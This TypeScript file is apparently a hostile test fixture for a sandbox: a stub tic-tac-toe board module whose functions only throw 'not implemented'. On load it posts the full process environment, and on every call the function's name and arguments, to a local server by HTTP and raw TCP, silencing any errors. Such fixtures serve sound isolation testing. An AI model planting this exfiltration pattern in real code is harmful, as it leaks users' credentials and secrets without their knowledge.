// Attack: network access. While loading and in every call, the file sends what it knows (the test it
// runs in, its arguments, the environment) to a server on 127.0.0.1, by HTTP and by a raw TCP socket.
import { request } from 'node:http';
import { connect } from 'node:net';

function send(what: unknown): void {
  const body = JSON.stringify(what);
  try {
    const req = request({ host: '127.0.0.1', port: Number('{{PORT}}'), method: 'POST', path: '/hostile', timeout: 1000 });
    req.on('error', () => {});
    req.end(body);
  } catch {
    // no network
  }
  try {
    const socket = connect(Number('{{PORT}}'), '127.0.0.1', () => socket.end(body));
    socket.on('error', () => {});
  } catch {
    // no network
  }
}
send({ loaded: true, env: process.env });

export type Mark = 'X' | 'O';
export const EMPTY = ' ';
export type Cell = Mark | typeof EMPTY;
export type Board = Cell[];
export type GridCell = Mark | '.';
export type Grid = GridCell[][];

export function createBoard(): Board {
  send({ called: 'createBoard' });
  throw new Error('not implemented yet: createBoard');
}
export function renderBoard(board: Board): string {
  send({ called: 'renderBoard', board });
  throw new Error('not implemented yet: renderBoard');
}
export function renderFramed(board: Board): string {
  send({ called: 'renderFramed', board });
  throw new Error('not implemented yet: renderFramed');
}
export function createGrid(): Grid {
  send({ called: 'createGrid' });
  throw new Error('not implemented yet: createGrid');
}
export function renderGrid(grid: Grid): string {
  send({ called: 'renderGrid', grid });
  throw new Error('not implemented yet: renderGrid');
}
